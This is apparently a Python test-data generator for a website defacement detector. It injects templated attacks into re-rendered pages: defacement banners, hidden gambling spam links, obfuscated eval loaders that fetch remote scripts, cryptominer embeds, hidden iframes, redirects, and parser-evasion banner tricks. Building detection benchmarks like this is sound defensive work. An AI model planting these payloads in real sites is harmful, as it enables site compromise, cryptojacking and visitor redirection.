"""Synthetic evaluation cases built from real pages: dynamic re-renders and injected attacks.

Used by the tests and `bench/deface.py`. A legitimate page is re-rendered the way CMSs do (date/time
line, visit counter, CSRF/VIEWSTATE tokens, nonces, cache-busting `?v=`, a rotating and reordered news
list); attacks are injected into such a re-render the way real intruders do. Everything is seeded, so a
case is reproducible from (page, kind, seed).
"""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Callable

WEEKDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday", "Senin", "Selasa",
            "ថ្ងៃច័ន្ទ", "ថ្ងៃអង្គារ"]
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October",
          "November", "December", "មករា", "កុម្ភៈ"]
NEWS_POOL = [
    "Minister receives delegation on trade cooperation", "Workshop on digital government services opens",
    "Ministry publishes quarterly statistics report", "Public consultation on the new regulation",
    "Press release: national holiday schedule", "Training for provincial officers concludes",
    "Call for applications: scholarship programme", "Joint committee meeting on border trade",
    "ក្រសួងរៀបចំសិក្ខាសាលាស្តីពីរដ្ឋាភិបាលឌីជីថល", "Kunjungan kerja ke dinas provinsi",
    "Announcement of the tender results", "Launch of the online business registration portal",
]
GROUPS = ["Cyb3r Gh0st Team", "GARUDA SECURITY HACKER", "Khmer Xploit Crew", "Team_Anon404", "Mr.Sn00p",
          "Bangladesh Black Hat", "Tr4ck3r Cyber Army", "Ph4nt0m Squad", "Jombang XPL", "Vn_Hackerz"]
BANNERS = ["Hacked by {g}", "HACKED BY {g} - your security is low", "H4ck3d by {g}", "Diretas oleh {g}",
           "Website ini di hack oleh {g}", "Trang web đã bị hack bởi {g}", "เว็บไซต์นี้ถูกแฮกโดย {g}",
           "Site hackeado por {g}", "Bu site {g} tarafından hacklendi", "គេហទំព័រនេះត្រូវបានហេកដោយ {g}",
           "تم اختراق الموقع بواسطة {g}", "Defaced by {g} | Greetz: all members", "Owned by {g}"]
SPAM_WORDS = ["slot gacor", "judi online", "togel online", "situs slot", "slot maxwin", "bandar togel",
              "link alternatif slot", "rtp slot hari ini", "สล็อตเว็บตรง", "บาคาร่าออนไลน์", "nhà cái uy tín",
              "nổ hũ đổi thưởng", "កាស៊ីណូអនឡាញ", "casino online", "agen sbobet", "slot88 resmi"]
SPAM_TLDS = ["com", "net", "xyz", "site", "online", "top", "vip", "io", "org", "info"]
HIDE_STYLES = ["display:none", "display: none;", "position:absolute;left:-9999px;top:-9999px",
               "font-size:0px;line-height:0", "height:0;overflow:hidden", "visibility:hidden",
               "position:absolute; top:-1200px", "opacity:0;position:absolute", "text-indent:-5000px"]
CSS_HIDE_STYLES = HIDE_STYLES + ["clip:rect(0,0,0,0);position:absolute", "clip: rect(0 0 0 0); position: absolute;",
                                 "width:0;height:0;overflow:hidden", "max-height:0px; overflow:hidden",
                                 "transform:translateX(-9999px)", "display:none !important",
                                 "color:#fff;background:#fff", "font-size:1px;line-height:0",
                                 "position:fixed;left:-3000px", "clip-path:inset(50%);position:absolute"]
ATTACKS = ("banner", "hidden_spam", "hidden_spam_css", "external_script", "obfuscated_script", "miner",
           "hidden_iframe", "redirect", "title")


def _word(rng: random.Random, n: int = 8) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))


def _domain(rng: random.Random) -> str:
    return f"{_word(rng, rng.randint(5, 11))}{rng.choice(['', '88', '777', '-id', ''])}.{rng.choice(SPAM_TLDS)}"


def _insert_after_body(html: str, snippet: str) -> str:
    match = re.search(r"<body[^>]*>", html, re.I)
    return html[:match.end()] + snippet + html[match.end():] if match else snippet + html


def _insert_before(html: str, tag: str, snippet: str) -> str:
    pos = html.lower().rfind(tag)
    return html[:pos] + snippet + html[pos:] if pos >= 0 else html + snippet


def _insert_head(html: str, snippet: str) -> str:
    pos = html.lower().find("</head>")
    return html[:pos] + snippet + html[pos:] if pos >= 0 else snippet + html


def render(html: str, rng: random.Random) -> str:
    """One dynamic re-render of a legitimate page (what a CMS serves on the next load)."""
    day, month = rng.choice(WEEKDAYS), rng.choice(MONTHS)
    top = (f'<div class="topbar"><span class="date">{day}, {rng.randint(1, 28)} {month} {rng.randint(2024, 2026)} '
           f'{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}</span> <span class="visits">Visitors: '
           f'{rng.randint(1000, 999999):,}</span></div>')
    items = rng.sample(NEWS_POOL, 5)
    news = "".join(f'<li><a href="/news/{rng.randint(100, 999)}.html">{t}</a> '
                   f'<small>{rng.randint(1, 28)}/{rng.randint(1, 12)}/2026</small></li>' for t in items)
    token = base64.b64encode(rng.randbytes(24)).decode()
    state = base64.b64encode(rng.randbytes(rng.randint(60, 120))).decode()
    tail = (f'<div class="latest"><h4>Latest news</h4><ul class="news">{news}</ul></div>'
            f'<form method="post" action="/search"><input type="hidden" name="csrf_token" value="{token}">'
            f'<input type="hidden" name="__VIEWSTATE" value="{state}"></form>'
            f'<script>var csrf="{token}"; var t0={rng.randint(10**9, 10**10)};</script>')
    html = re.sub(r'((?:src|href)="[^"?#]+\.(?:css|js))(?:\?[^"]*)?"',
                  lambda m: f'{m.group(1)}?v={rng.randint(1000, 99999)}"', html)
    return _insert_before(_insert_after_body(html, top), "</body", tail)


def _spam_links(rng: random.Random, n: int) -> str:
    return "".join(f'<a href="https://{_domain(rng)}/">{rng.choice(SPAM_WORDS)}</a> ' for _ in range(n))


def inject(html: str, kind: str, rng: random.Random) -> str:
    """Inject one attack of `kind` into a page, as attackers do."""
    return _INJECTORS[kind](html, rng)


def _banner(html: str, rng: random.Random) -> str:
    text = rng.choice(BANNERS).format(g=rng.choice(GROUPS))
    style = rng.choice(['style="background:#000;color:red;text-align:center"', 'class="alert"', ""])
    return _insert_after_body(html, f"<div {style}><h1>{text}</h1><marquee>We are everywhere</marquee></div>")


def _hidden_spam(html: str, rng: random.Random) -> str:
    links = _spam_links(rng, rng.randint(3, 25))
    how = rng.randrange(3)
    if how == 0:
        block = f'<div style="{rng.choice(HIDE_STYLES)}">{links}</div>'
    elif how == 1:
        cls = _word(rng, 6)
        block = f'<style>.{cls}{{{rng.choice(HIDE_STYLES)}}}</style><div class="{cls}">{links}</div>'
    else:
        block = f'<p hidden>{links}</p>' if rng.random() < 0.3 else f'<span style="font-size:0">{links}</span>'
    where = rng.random()
    return _insert_before(html, "</body", block) if where < 0.6 else _insert_after_body(html, block)


def _css_hidden_block(rng: random.Random, links: str) -> tuple[str, str]:
    """(selector, markup) of a spam block hidden by a compound selector in the page's own <style>."""
    a, b, ident = _word(rng, 5), _word(rng, 4), _word(rng, 6)
    forms = [
        (f"div.{a}", f'<div class="{a}">{links}</div>'),
        (f"#{ident} .{a}", f'<div id="{ident}"><div class="{b} {a}">{links}</div></div>'),
        (f".{a} > a", f'<div class="{a}">{links}</div>'),
        (f'[class*="{a}"]', f'<div class="{b}-{a}-wrap">{links}</div>'),
        (f'div[id^="{a}"]', f'<div id="{a}{rng.randint(1, 99)}">{links}</div>'),
        (f".{a}.{b}", f'<p class="{b} {a}">{links}</p>'),
        (f"body .{a} a", f'<div class="{a}"><span>{links}</span></div>'),
        (f"section#{ident} ul", f'<section id="{ident}"><ul><li>{links}</li></ul></section>'),
        (f".{b} span.{a}", f'<div class="{b}"><span class="{a}">{links}</span></div>'),
    ]
    return rng.choice(forms)


def _hidden_spam_css(html: str, rng: random.Random) -> str:
    """Spam links hidden by the page's own stylesheet through a compound selector (`#footer .links`)."""
    selector, block = _css_hidden_block(rng, _spam_links(rng, rng.randint(3, 25)))
    rule = f"<style>{rng.choice(['', 'p{margin:0} '])}{selector}{{{rng.choice(CSS_HIDE_STYLES)}}}</style>"
    html = _insert_head(html, rule) if rng.random() < 0.5 else _insert_after_body(html, rule)
    return _insert_before(html, "</body", block) if rng.random() < 0.6 else _insert_after_body(html, block)


def _external_script(html: str, rng: random.Random) -> str:
    path = rng.choice(["js/jquery.min.js", "analytics.js", "cdn/app.js", "wp-includes/js/l.js", "s.js"])
    tag = f'<script src="https://{_domain(rng)}/{path}"></script>'
    return _insert_head(html, tag) if rng.random() < 0.5 else _insert_before(html, "</body", tag)


def _obfuscated(html: str, rng: random.Random) -> str:
    target = f"https://{_domain(rng)}/go.php"
    payload = (f"var s=document.createElement('script');s.src='{target}';"
               f"document.getElementsByTagName('head')[0].appendChild(s);var k='{_word(rng, 40)}';")
    style = rng.randrange(4)
    if style == 0:
        code = "eval(unescape('" + "".join(f"%{ord(ch):02x}" for ch in payload) + "'));"
    elif style == 1:
        code = f"eval(atob('{base64.b64encode(payload.encode()).decode()}'));"
    elif style == 2:
        code = "eval(String.fromCharCode(" + ",".join(str(ord(ch)) for ch in payload) + "));"
    else:
        names = [f"_0x{rng.randrange(16**5):05x}" for _ in range(6)]
        hexed = "".join(f"\\x{ord(ch):02x}" for ch in payload)
        code = (f"var {names[0]}=['{hexed}'];(function({names[1]},{names[2]}){{var {names[3]}=function({names[4]})"
                f"{{while(--{names[4]}){{{names[1]}['push']({names[1]}['shift']());}}}};}}({names[0]},0x1f));"
                f"var {names[5]}=function(a){{return {names[0]}[a];}};window['eval']({names[5]}(0));")
    return _insert_before(html, "</body", f"<script>{code}</script>")


def _miner(html: str, rng: random.Random) -> str:
    key = _word(rng, 32)
    variants = [
        f'<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous('
        f"'{key}',{{throttle:0.3}});miner.start();</script>",
        f'<script src="https://authedmine.com/lib/authedmine.min.js"></script><script>var m=new CoinHive.Anonymous('
        f"'{key}');m.start();</script>",
        f'<script src="https://www.coinimp.com/scripts/min.js"></script><script>var _client=new Client.Anonymous('
        f"'{key}',{{throttle:0.5,c:'w'}});_client.start();</script>",
        f'<script src="https://crypto-loot.org/lib/miner.min.js"></script><script>var miner=new CRLT.Anonymous('
        f"'{key}');miner.start();</script>",
        f'<script src="/wp-content/{_word(rng, 5)}.js"></script><script>var w=new Worker("/cn.js");'
        f"w.postMessage({{algo:'cryptonight',pool:'wss://{_domain(rng)}:443',wallet:'{key}'}});</script>",
    ]
    return _insert_before(html, "</body", rng.choice(variants))


def _hidden_iframe(html: str, rng: random.Random) -> str:
    src = f"http://{_domain(rng)}/{_word(rng, 5)}.php"
    attrs = rng.choice(['width="1" height="1" frameborder="0"', 'width="0" height="0"',
                        'style="display:none"', 'style="visibility:hidden;position:absolute"',
                        'width="1" height="1" style="border:0"'])
    return _insert_before(html, "</body", f'<iframe src="{src}" {attrs}></iframe>')


def _redirect(html: str, rng: random.Random) -> str:
    target = f"https://{_domain(rng)}/"
    style = rng.randrange(3)
    if style == 0:
        return _insert_head(html, f'<meta http-equiv="refresh" content="{rng.randint(0, 5)};url={target}">')
    if style == 1:
        call = rng.choice([f'window.location.href="{target}"', f"location.replace('{target}')",
                           f'window.location = "{target}"'])
        return _insert_head(html, f"<script>{call};</script>")
    return _insert_head(html, "<script>var r=document.referrer;if(r.indexOf('google')>=0||r.indexOf('bing')>=0)"
                              f"{{window.location.href='{target}';}}</script>")


def _title(html: str, rng: random.Random) -> str:
    new = rng.choice([f"SLOT GACOR {rng.randint(88, 999)} - Situs Judi Online Terpercaya",
                      f"Hacked by {rng.choice(GROUPS)}", "สล็อตเว็บตรง แตกง่าย เว็บพนันออนไลน์",
                      "Nhà cái uy tín - Cá cược bóng đá", f"Buy Cheap Viagra Online - {_word(rng, 6)}",
                      "TOGEL HONGKONG HARI INI - BANDAR TOGEL RESMI"])
    if re.search(r"<title[^>]*>.*?</title>", html, re.I | re.S):
        return re.sub(r"(<title[^>]*>).*?(</title>)", lambda m: m.group(1) + new + m.group(2), html, count=1,
                      flags=re.I | re.S)
    return _insert_head(html, f"<title>{new}</title>")


_INJECTORS: dict[str, Callable[[str, random.Random], str]] = {
    "banner": _banner, "hidden_spam": _hidden_spam, "hidden_spam_css": _hidden_spam_css,
    "external_script": _external_script,
    "obfuscated_script": _obfuscated, "miner": _miner, "hidden_iframe": _hidden_iframe, "redirect": _redirect,
    "title": _title}


BENIGN_CHANGES = ("analytics_added", "news_about_hacking")
HACKING_NEWS = [
    ("Cyber Security Week opens with a call to update public websites",
     "Opening Cyber Security Week, the minister recalled that several provincial websites were hacked by an "
     "unknown group last year, and asked every agency to update its systems and train its staff."),
    ("Police investigate attack on the municipal portal",
     "The municipal portal was hacked by criminals who replaced its home page on Sunday night, police said on "
     "Monday; the site was restored within two hours and no personal data was lost."),
    ("Ministry launches an anonymous survey on online services",
     "Citizens can answer the anonymous survey until the end of the month. The ministry was here to help the "
     "chamber of commerce after its site was defaced by attackers in March, the spokesperson said."),
    ("Diskominfo gelar pelatihan keamanan siber bagi admin website dinas",
     "Dalam pelatihan tersebut dijelaskan bahwa sejumlah situs pemerintah daerah pernah diretas oleh pihak yang "
     "tidak bertanggung jawab, sehingga setiap pengelola diminta memperbarui sistem secara berkala."),
    ("Bộ Thông tin và Truyền thông tổ chức hội thảo an toàn thông tin",
     "Theo báo cáo tại hội thảo, năm ngoái nhiều cổng thông tin điện tử của địa phương đã bị hack bởi các đối "
     "tượng xấu, vì vậy các cơ quan cần nâng cao năng lực bảo đảm an toàn thông tin."),
    ("ក្រសួងរៀបចំសិក្ខាសាលាស្តីពីសន្តិសុខព័ត៌មានវិទ្យា",
     "ក្នុងសិក្ខាសាលានេះ មន្ត្រីបានរំលឹកថា កាលពីឆ្នាំមុន គេហទំព័រមួយចំនួនត្រូវបានហេកដោយជនមិនស្គាល់មុខ "
     "ហើយបានស្នើឱ្យស្ថាប័ននានាធ្វើបច្ចុប្បន្នភាពប្រព័ន្ធ និងបណ្តុះបណ្តាលបុគ្គលិកជាប្រចាំ។"),
    ("กระทรวงจัดสัปดาห์ความปลอดภัยไซเบอร์",
     "ในงานสัมมนา เจ้าหน้าที่กล่าวว่าเมื่อปีที่แล้วเว็บไซต์ของหน่วยงานท้องถิ่นหลายแห่งถูกแฮกโดยบุคคลที่ไม่ทราบชื่อ "
     "จึงขอให้ทุกหน่วยงานปรับปรุงระบบและฝึกอบรมเจ้าหน้าที่อย่างสม่ำเสมอ"),
    ("Prefeitura reforça a segurança do portal",
     "Segundo a polícia, o portal da prefeitura foi hackeado por um grupo desconhecido na semana passada e já foi "
     "restaurado; nenhum dado pessoal foi perdido, informou a secretaria."),
    ("Belediye internet sitesine yapılan saldırı soruşturuluyor",
     "Belediyenin internet sitesi geçen hafta kimliği belirsiz kişiler tarafından hacklendi; polis soruşturma "
     "başlattı ve site iki saat içinde yeniden yayına alındı."),
    ("الوزارة تنظم أسبوع الأمن السيبراني",
     "أعلنت الوزارة أنه تم اختراق موقع إحدى البلديات الأسبوع الماضي من قبل مجموعة مجهولة، وبدأت الشرطة "
     "التحقيق في الحادث، وتمت استعادة الموقع خلال ساعتين."),
]
_CREW_NAMES = ["Mr.Z3r0", "./B4ngs4t", "Sh4d0w_X", "D4rkN1ght", "xRoot", "Anon_Ghost", "N0Name", "K1ller"]
_LINES = ["from somewhere with love", "we are legion", "sorry admin", "just for fun", "no comment",
          "see you next time", "^_^", "we never sleep", "greetz to all my friends", "contact me on telegram"]


def add_analytics(html: str, rng: random.Random) -> str:
    """A legitimate change: the site adds a tag manager (inline loader and its <noscript> frame)."""
    tag = f"GTM-{_word(rng, 7).upper()}"
    loader = ("<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),"
              "event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;"
              f"j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f);}})"
              f"(window,document,'script','dataLayer','{tag}');</script>")
    frame = (f'<noscript><iframe src="https://www.googletagmanager.com/ns.html?id={tag}" height="0" width="0" '
             'style="display:none;visibility:hidden"></iframe></noscript>')
    return _insert_after_body(_insert_head(html, loader), frame)


def add_hacking_news(html: str, rng: random.Random) -> str:
    """A legitimate change: the page publishes a news story on a cyber attack ("... was hacked by ...")."""
    heading, body = rng.choice(HACKING_NEWS)
    day = f"{rng.randint(1, 28)}/{rng.randint(1, 12)}/2026"
    item = (f'<div class="news-item"><h3><a href="/news/{rng.randint(1000, 9999)}.html">{heading}</a></h3>'
            f"<small>{day}</small><p>{body}</p></div>")
    return _insert_before(html, "</body", item) if rng.random() < 0.5 else _insert_after_body(html, item)


def standalone_defacement(rng: random.Random) -> str:
    """A defacer's stand-alone page with no claim words, from a random mix of the usual ingredients."""
    parts = [f"<h1>{rng.choice(_CREW_NAMES)}</h1>"]
    extras = [f"<marquee>{rng.choice(_LINES)}</marquee>",
              f'<audio src="https://{_domain(rng)}/{_word(rng, 5)}.mp3" autoplay loop></audio>',
              f"<p>{rng.choice(_LINES)}</p><p>{' - '.join(rng.sample(_CREW_NAMES, 3))}</p>",
              f'<iframe src="https://{_domain(rng)}/player" width="1" height="1"></iframe>',
              f"<p>Greetz: {' | '.join(rng.sample(_CREW_NAMES, 4))}</p>"]
    parts += rng.sample(extras, rng.randint(2, 3))
    style = rng.choice(['<body bgcolor="black">', '<body style="background:#000;color:#0f0">',
                        "<style>body{background-color:#050505;color:white;text-align:center}</style><body>"])
    img = f'<img src="https://{_domain(rng)}/{_word(rng, 6)}.gif">' if rng.random() < 0.5 else ""
    return (f"<html><head><title>{rng.choice(_CREW_NAMES)}</title></head>{style}<center>{img}"
            f"{''.join(parts)}</center></body></html>")


# Banners placed where a regex reader and a browser disagree (each renders in Chromium): tests and bench.
EVASION_BANNER = "HACKED BY Ph4nt0m Squad"
EVASIONS = {
    "comment_bang_end": "<!-- old --!><h1>{b}</h1><!-- -->",
    "text_moved_out_of_head": "<head><h1>{b}</h1></head>",
    "svg_text": '<svg width="600" height="80"><text x="10" y="50" font-size="40">{b}</text></svg>',
    "option": "<select><option>{b}</option></select>",
    "textarea": "<textarea rows=3 cols=60>{b}</textarea>",
    "input_value": '<input type="text" size="60" value="{b}">',
    "button": "<button>{b}</button>",
    "markup_in_attribute": '<div title="<b>x</b>" data-x="a>b"><h2>{b}</h2></div>',
    "table_foster_parent": "<table><tr><td>x</td></tr>{b}</table>",
    "css_before": '<style>.gw-x::before{{content:"{b}";font-size:40px}}</style><div class="gw-x"></div>',
    "css_after_attr_selector": '<style>[data-k="1"]:after{{content:"{b}"}}</style><p data-k="1"></p>',
    "noscript_is_not_what_shows": "<noscript>ok</noscript><h1>{b}</h1>",
    "cyrillic_lookalikes": "<h1>\u041d\u0430\u0441\u043a\u0435d b\u0443 Ph4nt0m Squad</h1>",
    "greek_capitals": "<h1>\u0397\u0391C\u039a\u0395D \u0392\u03a5 ghost crew</h1>",
    "fullwidth": "<h1>\uff28\uff21\uff23\uff2b\uff25\uff24 \uff22\uff39 ghost crew</h1>",
    "spaced_leet": "<h1>H 4 C K 3 D  B Y ghost crew</h1>",
    "khmer_infiltrated": "<h1>\u1782\u17c1\u17a0\u1791\u17c6\u1796\u17d0\u179a\u1793\u17c1\u17c7"
                         "\u178f\u17d2\u179a\u17bc\u179c\u1794\u17b6\u1793\u1787\u17d2\u179a\u17c0\u178f"
                         "\u1785\u17bc\u179b\u178a\u17c4\u1799\u1780\u17d2\u179a\u17bb\u1798 Ph4nt0m</h1>",
    "image_overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;'
                     'background:url(https://x.example/pwn.jpg) center/cover"></div>',
    "comment_claim_and_a_line": "<!-- hacked by ghost crew --><p>we were here</p>",
}


def inject_evasion(html: str, kind: str) -> str:
    """The page with one evasion-class banner right after <body> (see EVASIONS)."""
    return _insert_after_body(html, EVASIONS[kind].format(b=EVASION_BANNER))
